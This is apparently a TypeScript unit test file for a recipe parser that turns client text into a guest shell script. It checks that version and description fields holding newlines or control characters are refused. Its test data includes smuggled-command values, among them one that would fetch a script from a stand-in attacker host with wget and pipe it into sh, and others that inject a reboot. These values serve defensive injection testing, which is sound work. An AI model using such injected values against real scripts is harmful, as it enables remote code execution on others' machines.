// Recipes are a client's text that becomes a shell script in the guest: the fields written into that script as text
// must not be able to end their line and add commands of their own.
import t from 'tap';
import { parseRecipe, userDataScript } from '../agent/src/core/recipe';

const recipe = (overrides: Record<string, unknown> = {}) => ({
  format: 1,
  service_id: 'org.example.hello',
  version: '1',
  base: 'busybox',
  port: 8080,
  script: '#!/bin/sh\necho hi\n',
  ...overrides,
});

/** An assertion's name as TAP can carry it: JSON.stringify leaves U+2028/U+2029, which a TAP reader takes for line ends. */
const escapedForTap = (value: string) => JSON.stringify(value).replace(/[\u2028\u2029]/g, (c) => `\\u${c.charCodeAt(0).toString(16)}`);

t.test('a version or description that would end a line of the user-data script is refused', async (t) => {
  const injected = '1\nwget -qO- http://attacker.example/x | sh';
  for (const [field, value] of [
    ['version', injected],
    ['version', '1\rreboot'],
    ['version', '1\u2028reboot'],
    ['description', `a service\n${injected}`],
    ['description', 'bell\u0007'],
  ] as const) {
    t.throws(
      () => parseRecipe(recipe({ [field]: value })),
      {
        code: 'INVALID_RECIPE',
        message: `recipe: ${field} must be one line of text, without newlines or other control characters`,
        details: { field },
      },
      `${field} ${escapedForTap(value)}`,
    );
  }
});

t.test('one-line text is kept as written, and the script has it on its comment line only', async (t) => {
  const parsed = parseRecipe(recipe({ version: '2.1 "stable" $(not run) `nor this`', description: 'Ünïcode is text too' }));
  t.equal(parsed.version, '2.1 "stable" $(not run) `nor this`');
  const lines = userDataScript(parsed).split('\n');
  t.equal(lines[1], '# cloudlet recipe org.example.hello 2.1 "stable" $(not run) `nor this`: written by the cloudlet agent');
  t.equal(lines[2], 'set -e', "the line after the comment is the script's own");
});
